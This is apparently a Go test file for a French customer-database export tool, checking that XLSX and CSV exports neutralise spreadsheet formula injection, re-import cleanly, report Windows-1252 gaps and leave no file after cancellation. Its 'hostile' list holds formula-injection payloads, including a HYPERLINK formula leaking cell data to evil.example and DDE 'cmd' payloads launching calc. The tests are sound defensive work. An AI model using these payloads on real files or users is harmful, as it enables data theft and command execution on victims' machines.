package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/charmap"

	"carnet/internal/domain"
	"carnet/internal/export"
	"carnet/internal/importer"
	"carnet/internal/store"
)

// hostile are values an attacker types into a web shop's form, hoping a
// bookkeeper opens the export in a spreadsheet.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Cliquez")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"=1+1",
}

func hostileFile(t *testing.T) ([]*domain.Customer, func(export.Format, string) string) {
	svc := newFile(t)
	var out []*domain.Customer
	for i, v := range hostile {
		c := &domain.Customer{Kind: domain.KindPerson, LastName: v, FirstName: "Eve", Site: domain.SiteFields{Notes: v},
			Billing: domain.Address{Line1: v, Postcode: "75001", City: "Paris"}, Email: "eve" + string(rune('a'+i)) + "@example.fr",
			Phones: []domain.Phone{{Number: "+3225550102"}}}
		if err := svc.CreateCustomer(context.Background(), c); err != nil {
			t.Fatalf("create %q: %v", v, err)
		}
		out = append(out, c)
	}
	return out, func(f export.Format, name string) string { p, _ := exportTo(t, svc, f, name); return p }
}

func TestFormulaInjectionNeutralisedInEveryFile(t *testing.T) {
	_, write := hostileFile(t)
	t.Run("xlsx", func(t *testing.T) {
		wb, err := excelize.OpenFile(write(export.FormatXLSX, "x.xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		defer wb.Close()
		assertNoFormula(t, wb)
		rows, _ := wb.GetRows(wb.GetSheetName(0))
		phones := columnOf(rows[0], "Téléphones")
		if got := rows[1][phones]; got != "'+32 2 555 01 02" {
			t.Errorf("foreign phone cell %q, want it readable behind the text mark", got)
		}
	})
	for _, f := range []export.Format{export.FormatCSV, export.FormatCSV1252, export.FormatAccounts, export.FormatMailing} {
		t.Run(string(f), func(t *testing.T) {
			assertNoTriggerInCSV(t, write(f, string(f)+".csv"))
		})
	}
	t.Run("errors workbook and template", func(t *testing.T) {
		// The errors workbook copies the file's own cells: a hostile
		// cell goes back neutralised too.
		svc := newFile(t)
		im := importer.New(svc)
		src := filepath.Join(t.TempDir(), "in.csv")
		text := "Nom;E-mail;Notes\n" + `"=HYPERLINK(""http://evil"")"` + ";pas-un-email;@SUM(A1)\n"
		if err := os.WriteFile(src, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		p, err := im.Preview(context.Background(), src, importer.Settings{}, 5)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		n, err := im.ExportErrors(context.Background(), importer.Request{Path: src, Mapping: importer.MappingOf(p.Suggestions), Options: p.Options}, &buf)
		if err != nil || n != 1 {
			t.Fatalf("errors workbook: %d rows, %v", n, err)
		}
		wb, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		assertNoFormula(t, wb)
		wb.Close()
		buf.Reset()
		if err := importer.WriteTemplate(&buf, "fr"); err != nil {
			t.Fatal(err)
		}
		if wb, err = excelize.OpenReader(&buf); err != nil {
			t.Fatal(err)
		}
		assertNoFormula(t, wb)
		wb.Close()
	})
}

// assertNoFormula checks every cell of every sheet: none is a formula, and
// no text cell starts with a character that makes one.
func assertNoFormula(t *testing.T, wb *excelize.File) {
	t.Helper()
	cells := 0
	for _, sheet := range wb.GetSheetList() {
		rows, err := wb.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := wb.GetCellFormula(sheet, name); f != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, name, f)
				}
				typ, _ := wb.GetCellType(sheet, name)
				if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") && typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
					t.Errorf("%s!%s text starts with a formula trigger: %q", sheet, name, v)
				}
				cells++
			}
		}
	}
	if cells == 0 {
		t.Fatal("no cell read")
	}
}

func assertNoTriggerInCSV(t *testing.T, path string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(path, "1252") {
		if data, err = charmap.Windows1252.NewDecoder().Bytes(data); err != nil {
			t.Fatal(err)
		}
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.Comma = ';'
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for i, rec := range records {
		for _, v := range rec {
			if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") {
				t.Errorf("line %d: cell %q starts with a formula trigger", i+1, v)
			}
			if strings.Contains(v, "cmd|") || strings.Contains(v, "HYPERLINK") || strings.Contains(v, "=1+1") {
				found++
			}
		}
	}
	if found == 0 {
		t.Fatal("the hostile values are not in the file at all")
	}
}

func columnOf(header []string, name string) int {
	for i, h := range header {
		if h == name {
			return i
		}
	}
	return -1
}

func TestHostileValuesReimportAsTheyWere(t *testing.T) {
	svc := newFile(t)
	for _, v := range hostile {
		c := &domain.Customer{Kind: domain.KindPerson, LastName: "Eve", Site: domain.SiteFields{Notes: v}, Phones: []domain.Phone{{Number: "+3225550102"}}}
		if err := svc.CreateCustomer(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []export.Format{export.FormatXLSX, export.FormatCSV} {
		path, _ := exportTo(t, svc, f, "x"+f.Extension())
		_, _, plan := reimport(t, svc, path, nil)
		if plan.Counts.Unchanged != len(hostile) {
			t.Errorf("%s: hostile notes and a +32 phone do not come back as they were: %s", f, describe(plan))
		}
	}
}

func TestWindows1252ListsWhatItCannotHold(t *testing.T) {
	svc := newFile(t)
	fillFile(t, svc) // Nguyễn Minh: "ễ" is not in Windows-1252; "é", "œ", "€" are
	path := filepath.Join(t.TempDir(), "ancien.csv")
	_, err := export.New(svc).Export(context.Background(), path, export.Request{Format: export.FormatCSV1252, Lang: "fr"})
	var ue *export.UnencodableError
	if !errors.As(err, &ue) {
		t.Fatalf("err = %v, want the places Windows-1252 cannot hold", err)
	}
	if ue.Total != 1 || ue.Places[0].Column != "Nom" || ue.Places[0].Char != "ễ" || ue.Places[0].Row < 2 {
		t.Fatalf("places = %+v (total %d), want the last name's ễ with its row", ue.Places, ue.Total)
	}
	msg := domain.UserMessage(err, "fr")
	for _, want := range []string{"colonne « Nom »", "« ễ »", "CSV UTF-8", "Rien n’a été écrit"} {
		if !strings.Contains(msg, want) {
			t.Errorf("message lacks %q:\n%s", want, msg)
		}
	}
	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a refused export left a file: %v", err)
	}
}

func TestAccountsUseTheSundryAccountWhenNone(t *testing.T) {
	svc := newFile(t)
	fillFile(t, svc)
	if err := svc.SetAccounting(context.Background(), "411DIVERS", ""); err != nil {
		t.Fatal(err)
	}
	path, res := exportTo(t, svc, export.FormatAccounts, "comptes.csv")
	if res.Written != 3 {
		t.Fatalf("written %d", res.Written)
	}
	data, _ := os.ReadFile(path)
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.Comma = ';'
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(records[0][:4], "|") != "Compte|Nom|Adresse|Complément d’adresse" {
		t.Errorf("header %q", records[0])
	}
	accounts := map[string]string{}
	for _, rec := range records[1:] {
		accounts[rec[len(rec)-1]] = rec[0]
	}
	if accounts["C000124"] != "411DUPONT" || accounts["C000123"] != "411DIVERS" || accounts["C000125"] != "411DIVERS" {
		t.Errorf("accounts by code = %v, want the own account or the sundry one", accounts)
	}
}

func TestCancelledExportLeavesNoFile(t *testing.T) {
	svc := newFile(t)
	for i := 0; i < 2500; i++ {
		if err := svc.CreateCustomer(context.Background(), &domain.Customer{Kind: domain.KindPerson, LastName: "Martin"}); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []export.Format{export.FormatXLSX, export.FormatCSV, export.FormatLabels} {
		path := filepath.Join(t.TempDir(), "x"+f.Extension())
		if err := os.WriteFile(path, []byte("before"), 0o644); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(context.Background())
		_, err := export.New(svc).Export(ctx, path, export.Request{Format: f, Query: store.Query{},
			OnProgress: func(done, total int) {
				if done >= 1000 {
					cancel()
				}
			}})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("%s: err = %v, want the cancel", f, err)
		}
		if data, _ := os.ReadFile(path); string(data) != "before" {
			t.Errorf("%s: a cancelled export changed the file at the destination", f)
		}
		entries, _ := os.ReadDir(filepath.Dir(path))
		if len(entries) != 1 {
			t.Errorf("%s: %d files left beside the destination", f, len(entries))
		}
	}
}
